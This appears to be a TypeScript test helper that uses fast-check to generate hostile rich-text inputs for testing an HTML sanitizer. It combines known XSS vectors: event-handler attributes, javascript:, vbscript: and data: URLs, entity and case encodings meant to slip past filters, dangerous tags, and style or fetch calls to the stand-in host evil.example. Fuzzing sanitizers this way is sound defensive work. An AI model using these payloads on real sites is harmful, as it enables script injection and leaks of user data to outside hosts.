import fc from 'fast-check';
import { xssCorpus } from './xss-corpus';

/** Code that runs where a browser allows it: `alert(1)`, or a request to evil.example. */
const code = fc.constantFrom(
  'alert(1)',
  'alert`1`',
  'top.alert(1)',
  "fetch('//evil.example')",
  'self["ale"+"rt"](1)',
);

/** Encodings that make a filter see something else than a browser. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => [...text].map((character) => `&#${character.codePointAt(0)};`).join(''),
  (text) => [...text].map((character) => `&#x${character.codePointAt(0)?.toString(16)}`).join(';'),
  (text) => text.replace(':', '&colon;').replace('(', '&lpar;'),
  (text) => `${text.slice(0, 3)}\t${text.slice(3)}`,
  (text) => `${text.slice(0, 3)}&Tab;&NewLine;${text.slice(3)}`,
  (text) => `\u0001 ${text}`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '&lt;'),
];
const disguise = fc.constantFrom(...disguises);

const scheme = fc.constantFrom(
  'javascript:',
  'data:text/html,<script>',
  'vbscript:',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
);
const url = fc.tuple(scheme, code, disguise).map(([start, rest, hide]) => hide(start + rest));
const handler = fc.constantFrom(
  ...['onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'ontoggle', 'onbegin', 'onanimationstart'],
  ...['onpointerenter', 'onscroll', 'oncut', 'onpaste', 'onbeforematch', 'onauxclick', 'formaction', 'is'],
);
const quote = fc.constantFrom('"', "'", '', '`');
const between = fc.constantFrom(' ', '/', '\n', '\t', '\f', '"', ' / ', '\u0000 ');

const attributeOf = (name: fc.Arbitrary<string>, value: fc.Arbitrary<string>) =>
  fc.tuple(between, name, quote, value).map(([gap, key, mark, text]) => `${gap}${key}=${mark}${text}${mark}`);
const attribute = fc.oneof(
  attributeOf(handler, code),
  attributeOf(
    fc.constantFrom('href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background'),
    url,
  ),
  attributeOf(
    fc.constantFrom('srcdoc', 'title', 'alt', 'id', 'class', 'data-align', 'lang'),
    fc.constantFrom(
      '<script>alert(1)</script>',
      '"><script>alert(1)</script>',
      "'-alert(1)-'",
      '--><img src=x onerror=alert(1)>',
    ),
  ),
  attributeOf(
    fc.constant('style'),
    fc.constantFrom(
      'background:url(//evil.example/a)',
      'text-align:center;background:url(//evil.example)',
      'width:expression(alert(1))',
      'behavior:url(//evil.example)',
      'animation:x;position:fixed;inset:0',
      '@import"//evil.example"',
    ),
  ),
  fc.constantFrom(
    ' autofocus',
    ' open',
    ' contenteditable',
    ' src=x',
    ' src=//evil.example/x',
    ' srcset="//evil.example/x 2x"',
  ),
);

const tag = fc.constantFrom(
  ...[
    'a',
    'img',
    'p',
    'div',
    'td',
    'table',
    'details',
    'summary',
    'figure',
    'h2',
    'li',
    'span',
    'blockquote',
    'pre',
  ],
  ...[
    'svg',
    'math',
    'script',
    'style',
    'iframe',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'video',
    'audio',
  ],
  ...[
    'animate',
    'set',
    'use',
    'foreignObject',
    'mtext',
    'mglyph',
    'annotation-xml',
    'desc',
    'title',
    'base',
    'meta',
  ],
  ...[
    'link',
    'noscript',
    'template',
    'textarea',
    'xmp',
    'plaintext',
    'noembed',
    'select',
    'option',
    'marquee',
    'keygen',
  ],
);
const attack = fc.constantFrom(...xssCorpus.map(({ html }) => html));

const { piece } = fc.letrec<{ piece: string }>((tie) => ({
  piece: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    attack,
    fc.constantFrom(
      'words',
      '<!--',
      '-->',
      ']]>',
      '<![CDATA[',
      '</p>',
      '</style>',
      '</title>',
      '</svg>',
      '</template>',
      '<',
      '\u0000',
      '<br>',
    ),
    fc
      .record({
        name: tag,
        attributes: fc.array(attribute, { maxLength: 3 }),
        inner: fc.array(tie('piece'), { maxLength: 3 }),
        body: fc.oneof(fc.constant(''), code, url),
        end: fc.constantFrom('right', 'right', 'none', 'slash', 'case', 'late'),
        hide: fc.constantFrom(...disguises.slice(0, 2), (text: string) => text.replace('s', '\u0000s')),
      })
      .map(({ name, attributes, inner, body, end, hide }) => {
        const start = `<${hide(name)}${attributes.join('')}`;
        if (end === 'slash') return `${start}/>${inner.join('')}`;
        if (end === 'late') return `${start} ${inner.join('')}>${body}`;
        const last = end === 'none' ? '' : `</${end === 'case' ? name.toUpperCase() : name} >`;
        return `${start}>${body}${inner.join('')}${last}`;
      }),
  ),
}));

/** Texts that try to run something or contact another host, generated from a grammar of known attacks. */
export const hostileRichText: fc.Arbitrary<string> = fc
  .array(piece, { minLength: 1, maxLength: 4 })
  .map((pieces) => pieces.join(''));
